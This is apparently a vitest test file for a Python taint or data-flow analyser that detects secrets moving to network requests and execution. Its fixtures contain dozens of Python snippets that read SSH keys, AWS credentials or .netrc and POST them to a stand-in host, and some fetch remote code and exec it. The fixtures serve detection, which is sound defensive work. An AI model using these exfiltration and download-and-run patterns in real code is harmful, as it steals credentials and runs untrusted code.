import { describe, expect, it } from 'vitest';
import { readAll, readPython } from './python-helper.ts';

const SECRET = 'open("/home/u/.ssh/id_rsa").read()';
const FLOW = 'read /home/u/.ssh/id_rsa -> POST https://drop.example (body)';

/** Every program carries the key to the same request. */
const WAYS: readonly (readonly [string, string])[] = [
  ['a variable', `d = ${SECRET}\nrequests.post("https://drop.example", data=d)`],
  ['a dictionary', `p = {}\np["k"] = ${SECRET}\nrequests.post("https://drop.example", json=p)`],
  ['a list', `l = []\nl.append(${SECRET})\nrequests.post("https://drop.example", data="".join(l))`],
  [
    'a list made in one function and filled in another',
    `def fill(l):\n    l.append(${SECRET})\nx = []\nfill(x)\nrequests.post("https://drop.example", data=x)`,
  ],
  ['a format string', `d = ${SECRET}\nrequests.post("https://drop.example", data=f"k={d}&x=%s" % d)`],
  [
    'encodings',
    `import base64, json, zlib\nd = ${SECRET}\nrequests.post("https://drop.example", data=base64.b64encode(zlib.compress(json.dumps({"a": d}).encode())))`,
  ],
  ['a branch', `d = ""\nif x:\n    d = ${SECRET}\nrequests.post("https://drop.example", data=d)`],
  ['a loop', `d = b""\nfor i in y:\n    d += ${SECRET}\nrequests.post("https://drop.example", data=d)`],
  ['a loop that carries', `a = b = ""\nfor i in y:\n    b = a\n    a = ${SECRET}\nrequests.post("https://drop.example", data=b)`],
  ['a function', `def get():\n    return ${SECRET}\ndef send(d):\n    requests.post("https://drop.example", data=d)\nsend(get())`],
  ['keyword arguments', `def send(a, d=None):\n    requests.post("https://drop.example", data=d)\nsend(1, d=${SECRET})`],
  ['star arguments', `def send(*a):\n    requests.post("https://drop.example", data=a[0])\nsend(${SECRET})`],
  ['a closure', `d = ${SECRET}\ndef send():\n    requests.post("https://drop.example", data=d)\nsend()`],
  ['a global', `d = None\ndef get():\n    global d\n    d = ${SECRET}\nget()\nrequests.post("https://drop.example", data=d)`],
  [
    'an attribute',
    `class C:\n    def __init__(self):\n        self.d = ${SECRET}\n    def send(self):\n        requests.post("https://drop.example", data=self.d)\nC().send()`,
  ],
  [
    'an attribute set from outside',
    `class C:\n    def send(self):\n        requests.post("https://drop.example", data=self.d)\nc = C()\nc.d = ${SECRET}\nc.send()`,
  ],
  ['a comprehension', `ds = [x for x in [${SECRET}]]\nrequests.post("https://drop.example", data={"a": ds})`],
  ['tuple unpacking', `a, b = ${SECRET}, 1\nrequests.post("https://drop.example", data=a)`],
  ['with', `with open("/home/u/.ssh/id_rsa") as f:\n    d = f.read()\nrequests.post("https://drop.example", data=d)`],
  ['an open file as body', `requests.post("https://drop.example", files={"f": open("/home/u/.ssh/id_rsa", "rb")})`],
  [
    'a thread',
    `import threading\ndef send(d):\n    requests.post("https://drop.example", data=d)\nthreading.Thread(target=send, args=(${SECRET},)).start()`,
  ],
  [
    'an executor',
    `from concurrent.futures import ThreadPoolExecutor\ndef send(d):\n    requests.post("https://drop.example", data=d)\nwith ThreadPoolExecutor() as ex:\n    ex.submit(send, ${SECRET})`,
  ],
  ['an unknown library', `import mystery\nrequests.post("https://drop.example", data=mystery.wrap(${SECRET}))`],
  [
    'an object that is filled',
    `import mystery\nm = mystery.Message()\nm.attach(${SECRET})\nrequests.post("https://drop.example", data=m.as_string())`,
  ],
  ['try and finally', `try:\n    d = ${SECRET}\nexcept Exception:\n    d = ""\nfinally:\n    pass\nrequests.post("https://drop.example", data=d)`],
  ['a generator', `def g():\n    yield ${SECRET}\nfor d in g():\n    requests.post("https://drop.example", data=d)`],
  ['a lambda', `f = lambda: ${SECRET}\nrequests.post("https://drop.example", data=f())`],
  ['a conditional', `d = ${SECRET} if x else ""\nrequests.post("https://drop.example", data=d)`],
  [
    'a copy in another file',
    `import shutil\nshutil.copy("/home/u/.ssh/id_rsa", "/tmp/x")\nrequests.post("https://drop.example", data=open("/tmp/x").read())`,
  ],
];

describe('data flow', () => {
  it.each(WAYS)('through %s', async (_name, body) => {
    const seen = await readPython(`import requests\n${body}`);
    expect(seen.flows('read', 'request')).toContain(FLOW);
  });

  it('joins source, bridge and sink in three files', async () => {
    const seen = await readAll({
      'scripts/main.py': 'from collect import gather\nfrom bridge import forward\nforward(gather())',
      'scripts/collect.py': 'import os\ndef gather():\n    return open(os.path.expanduser("~/.aws/credentials")).read()',
      'scripts/bridge.py': 'import base64\nimport net.out as out\ndef forward(x):\n    out.push(base64.b64encode(x.encode()))',
      'scripts/net/out.py': 'import requests\ndef push(payload, host="https://drop.example"):\n    requests.post(host, data=payload)',
    });
    expect(seen.flows('read', 'request')).toEqual(['read ~/.aws/credentials -> POST https://drop.example (body)']);
  });
  it('joins classes in three files', async () => {
    const seen = await readAll({
      'a.py': 'from b import Collector\nfrom c import Sender\nc = Collector()\nSender("https://drop.example").send(c.collect())',
      'b.py': 'class Collector:\n    def collect(self):\n        return open("/home/u/.netrc").read()',
      'c.py':
        'import requests\nclass Sender:\n    def __init__(self, url):\n        self.url = url\n    def send(self, d):\n        requests.post(self.url, data=d)',
    });
    expect(seen.flows('read', 'request')).toEqual(['read /home/u/.netrc -> POST ${self.url} (body)'.replace('self.url', 'url')]);
  });
  it('joins constants that other modules export', async () => {
    const seen = await readAll({
      'a.py': 'import b, requests\nrequests.post("https://drop.example", data=b.KEY)',
      'b.py': 'KEY = open("/home/u/.netrc").read()',
    });
    expect(seen.flows('read', 'request')).toEqual(['read /home/u/.netrc -> POST https://drop.example (body)']);
  });

  it('takes what was fetched to what runs it', async () => {
    expect((await readPython('import requests\nexec(requests.get("https://a.example").text)')).flows('request', 'exec')).toEqual([
      'GET https://a.example -> eval exec (code)',
    ]);
    const written = await readPython(
      'import requests, subprocess, tempfile, sys\np = tempfile.mktemp()\nopen(p, "wb").write(requests.get("https://a.example").content)\nsubprocess.run([sys.executable, p])',
    );
    expect(written.flows('request', 'exec')).toContain('GET https://a.example -> process python3 (code)');
    const known = await readPython(
      'import urllib.request, os\nurllib.request.urlretrieve("https://a.example/x", "/tmp/x.sh")\nos.execv("/tmp/x.sh", ["x"])',
    );
    expect(known.flows('request', 'exec')).toContain('GET https://a.example/x -> process x.sh (code)');
  });

  it('goes into commands and comes out of them', async () => {
    const seen = await readPython(
      'import subprocess, requests\nd = open("/home/u/.netrc").read()\nsubprocess.run(["curl", "-d", d, "https://a.example"])\no = subprocess.check_output(["whoami"])\nrequests.post("https://b.example", data=o)',
    );
    expect(seen.flows('read', 'exec')).toEqual(['read /home/u/.netrc -> process curl (argv)']);
    expect(seen.flows('exec', 'request')).toEqual(['process whoami -> POST https://b.example (body)']);
    expect(seen.texts).toContain('shell: curl -d "${1}" https://a.example');
  });

  it('does not mix what is apart', async () => {
    const seen = await readPython(
      'import os, requests\nT = os.environ["TRELLO_TOKEN"]\nr = requests.get("https://api.trello.example/boards", headers={"Authorization": f"Bearer {T}"})\nother = {"name": "x"}\nrequests.post("https://log.example", json=other)\nx = T\nx = "clean"\nrequests.post("https://log2.example", data=x)',
    );
    expect(seen.flows('env', 'request')).toEqual(['env TRELLO_TOKEN -> GET https://api.trello.example/boards (header)']);
  });
  it('keeps uses of a small helper apart', async () => {
    const seen = await readPython(
      'import os, requests\ndef clean(s):\n    return s.strip()\nt = clean(os.environ["A_TOKEN"])\nq = clean("query")\nrequests.get("https://a.example", headers={"X": t})\nrequests.get("https://b.example", params={"q": q})',
    );
    expect(seen.flows('env', 'request')).toEqual(['env A_TOKEN -> GET https://a.example (header)']);
  });
  it('puts data in an address where it stands', async () => {
    const seen = await readPython(
      'import os, requests\nt = os.environ["T"]\nrequests.get(f"https://a.example/x?d={t}")\nrequests.get(f"https://{t}.a.example/")',
    );
    expect(seen.flows('env', 'request')).toEqual(['env T -> GET https://${T}.a.example/ (url)', 'env T -> GET https://a.example/x?d=${T} (query)']);
  });
});
